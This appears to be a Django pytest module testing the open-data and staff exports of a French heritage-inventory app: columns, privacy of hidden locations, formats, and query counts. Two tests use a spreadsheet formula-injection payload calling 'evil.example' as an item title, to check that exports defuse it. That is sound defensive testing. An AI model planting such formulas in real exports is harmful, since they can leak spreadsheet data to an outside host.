"""What the open-data exports hold: validated items only with their public points, in
French, the Mérimée columns, the staff export; and that reading them stays in chunks."""

from __future__ import annotations

import pytest
from django.utils import timezone

from tissage.core.tests.factories import ProjectFactory
from tissage.inventories.campaigns.services import campaign_create
from tissage.inventories.models import CampaignField, Contribution
from tissage.inventories.opendata import exports
from tissage.inventories.tests.helpers import LAT, LON, published
from tissage.inventories.tests.opendata.helpers import add_published, body, csv_rows, sheet_rows

pytestmark = pytest.mark.django_db


# What the exports hold -------------------------------------------------------------------


def test_csv_holds_validated_items_only_with_public_points_and_no_email(client, campaign, items):
    response = client.get(f"/inventaires/{campaign.slug}/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{campaign.slug}.csv"'
    assert (
        response["Link"]
        == '<https://www.etalab.gouv.fr/licence-ouverte-open-licence/>; rel="license"'
    )
    data = body(response)
    assert b"secret@example.org" not in data
    assert data.splitlines()[0].count(b",") > 10  # comma separated
    rows = csv_rows(data)
    assert [row["title"] for row in rows] == ["Lavoir de la Fontaine", "Croix de chemin"]
    shown, hidden = rows
    item = items["shown"]
    assert shown["permalink"] == f"http://testserver/inventaires/{campaign.slug}/fiches/{item.pk}/"
    assert shown["id"] == str(item.pk)
    assert (shown["category"], shown["denomination"]) == ("Lavoir", "lavoir")
    assert shown["description"] == "Bassin couvert.\nToit de tuiles."
    assert (shown["commune"], shown["insee"]) == ("Nîmes", "30189")
    assert shown["address"] == "chemin de la Fontaine"
    assert (float(shown["longitude"]), float(shown["latitude"])) == (LON, LAT)
    assert shown["siecle"] == "XIXe siècle"
    assert shown["materiaux"] == "calcaire ; galets"
    assert shown["etat"] == "bon état"
    assert shown["couverture"] == ""
    assert shown["contributor"] == "Jeanne"
    assert shown["photo_credits"] == "Jeanne D. ; Paul M."
    assert shown["licence"] == "etalab-2.0"
    assert shown["validated_at"] == timezone.localdate(item.validated_at).isoformat()
    # The contributor asked to hide the place: rounded point, no address, no name.
    assert (hidden["longitude"], hidden["latitude"]) == ("4.37", "43.85")
    assert hidden["address"] == ""
    assert hidden["contributor"] == "anonyme"


def test_files_are_in_french_whatever_the_visitors_language(client, campaign, items):
    client.cookies["django_language"] = "en"
    rows = csv_rows(body(client.get(f"/inventaires/{campaign.slug}/export.csv")))
    assert rows[1]["contributor"] == "anonyme"


def test_merimee_export_names_columns_by_mérimée_codes(client, campaign, items):
    response = client.get(f"/inventaires/{campaign.slug}/merimee.csv")
    assert response.status_code == 200
    rows = csv_rows(body(response))
    assert list(rows[0])[:6] == ["REF", "TICO", "DENO", "COM", "INSEE", "ADRS"]
    assert {"APPL", "LIEU", "SCLE", "MURS", "COUV", "ETAT", "STAT", "HIST", "REMA"} <= set(rows[0])
    shown = rows[0]
    assert (shown["TICO"], shown["DENO"], shown["COM"], shown["INSEE"]) == (
        "Lavoir de la Fontaine",
        "lavoir",
        "Nîmes",
        "30189",
    )
    assert (shown["SCLE"], shown["MURS"], shown["ETAT"]) == (
        "XIXe siècle",
        "calcaire ; galets",
        "bon état",
    )
    assert rows[1]["DENO"] == "croix"
    assert rows[1]["ADRS"] == ""


def test_denomination_is_the_sources_word_until_a_moderator_changes_the_category(campaign):
    autre = campaign.categories.get(merimee_denomination="")
    item = Contribution(category=autre, values={"source:DENO": "église paroissiale"})
    assert exports.merimee_denomination(item) == "église paroissiale"
    item.category = campaign.categories.get(merimee_denomination="chapelle")
    assert exports.merimee_denomination(item) == "chapelle"
    item.values = {"source:DENO": "CHAPELLE ; clocher"}
    assert exports.merimee_denomination(item) == "CHAPELLE ; clocher"
    item.values = {}
    assert exports.merimee_denomination(item) == "chapelle"
    item.category = autre
    assert exports.merimee_denomination(item) == "Autre élément de patrimoine"


def test_merimee_export_exists_for_heritage_campaigns_only(client):
    free = campaign_create(project=ProjectFactory(), title="Arbres remarquables")
    assert client.get(f"/inventaires/{free.slug}/merimee.csv").status_code == 404
    assert client.get(f"/inventaires/{free.slug}/export.csv").status_code == 200


def test_an_unknown_format_is_not_found(client, campaign):
    assert client.get(f"/inventaires/{campaign.slug}/export.pdf").status_code == 404


def test_a_field_key_taken_by_a_column_gets_a_prefix(client, moderator):
    free = campaign_create(project=ProjectFactory(), title="Arbres")
    free.categories.create(name="Chêne", slug="chene")
    CampaignField.objects.create(campaign=free, key="title", label="Titre d’usage")
    CampaignField.objects.create(campaign=free, key="girth", label="Circonférence", kind="number")
    CampaignField.objects.create(campaign=free, key="alive", label="Vivant", kind="yes_no")
    CampaignField.objects.create(campaign=free, key="seen", label="Vu le", kind="date")
    Contribution.objects.create(
        campaign=free,
        category=free.categories.get(),
        title="Le grand chêne",
        values={"title": "Chêne de Sully", "girth": 4.5, "alive": True, "seen": "2024-05-02"},
        longitude=LON,
        latitude=LAT,
        licence=free.licence,
        consent_at="2024-05-02T10:00:00Z",
        status=Contribution.Status.VALIDATED,
    )
    (row,) = csv_rows(body(client.get(f"/inventaires/{free.slug}/export.csv")))
    assert "denomination" not in row  # a Mérimée column only for heritage campaigns
    assert (row["title"], row["field_title"]) == ("Le grand chêne", "Chêne de Sully")
    assert (row["girth"], row["alive"], row["seen"]) == ("4.5", "true", "2024-05-02")
    (cells,) = sheet_rows(body(client.get(f"/inventaires/{free.slug}/export.xlsx")))
    assert (cells["girth"], cells["alive"]) == (4.5, True)
    assert cells["seen"].isoformat() == "2024-05-02"


def test_staff_export_has_every_status_emails_and_exact_points(client, campaign, items, moderator):
    client.force_login(moderator)
    response = client.get(f"/inventaires/{campaign.slug}/export-equipe.csv")
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    rows = {row["title"]: row for row in csv_rows(body(response))}
    assert set(rows) == {
        "Lavoir de la Fontaine",
        "Croix de chemin",
        "Lavoir en attente",
        "Lavoir refusé",
        "Lavoir archivé",
    }
    hidden = rows["Croix de chemin"]
    assert hidden["contributor_email"] == "louise.secret@example.org"
    assert hidden["contributor_name"] == "Louise"
    assert hidden["contributor"] == "anonyme"
    assert (float(hidden["longitude"]), float(hidden["latitude"])) == (4.36789, 43.84567)
    assert hidden["address"] == "12 impasse des Oliviers"
    assert hidden["obscure_location"] == "true"
    assert rows["Lavoir de la Fontaine"]["contributor_email"] == "jeanne.secret@example.org"
    assert rows["Lavoir refusé"]["status"] == "rejected"


def test_staff_export_defuses_spreadsheet_formulas(client, campaign, moderator):
    published(campaign, moderator, title='=HYPERLINK("http://evil.example/?"&A1)')
    client.force_login(moderator)
    (row,) = csv_rows(body(client.get(f"/inventaires/{campaign.slug}/export-equipe.csv")))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1)'


@pytest.mark.parametrize("url", ["export.csv", "merimee.csv"])
def test_open_csv_exports_defuse_spreadsheet_formulas_too(client, campaign, moderator, url):
    """Open files are opened in spreadsheets too: a title typed as a formula must never
    run there (issue #11). The apostrophe shows; the ODS and XLSX keep the text exact."""
    published(campaign, moderator, title='=HYPERLINK("http://evil.example/?"&A1)', address="-1 rue")
    rows = csv_rows(body(client.get(f"/inventaires/{campaign.slug}/{url}")))
    cells = [cell for row in rows for cell in row.values()]
    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in cells
    assert not [cell for cell in cells if cell and cell[0] in "=+@\t\r"]


@pytest.mark.parametrize(
    "url",
    [
        "export.csv",
        "export.ods",
        "export.xlsx",
        "export.geojson",
        "merimee.csv",
        "photos.zip",
        "export-equipe.csv",
        "donnees/",
    ],
)
def test_query_count_does_not_grow_with_the_rows(
    client, campaign, moderator, url, django_assert_max_num_queries
):
    client.force_login(moderator)
    add_published(campaign, 3)
    with django_assert_max_num_queries(12) as few:
        small = body(client.get(f"/inventaires/{campaign.slug}/{url}"))
    add_published(campaign, 30)
    with django_assert_max_num_queries(len(few.captured_queries)):
        large = body(client.get(f"/inventaires/{campaign.slug}/{url}"))
    assert len(large) > len(small) or url == "donnees/"


def test_exports_read_the_rows_in_chunks(client, campaign, moderator, monkeypatch):
    """With chunks of 10 rows, 25 rows take three reads: nothing loads all at once."""
    monkeypatch.setattr(exports, "CHUNK_SIZE", 10)
    add_published(campaign, 25)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as queries:
        rows = csv_rows(body(client.get(f"/inventaires/{campaign.slug}/export.csv")))
    assert len(rows) == 25
    photo_reads = [q for q in queries.captured_queries if 'FROM "inventories_photo"' in q["sql"]]
    assert len(photo_reads) == 3
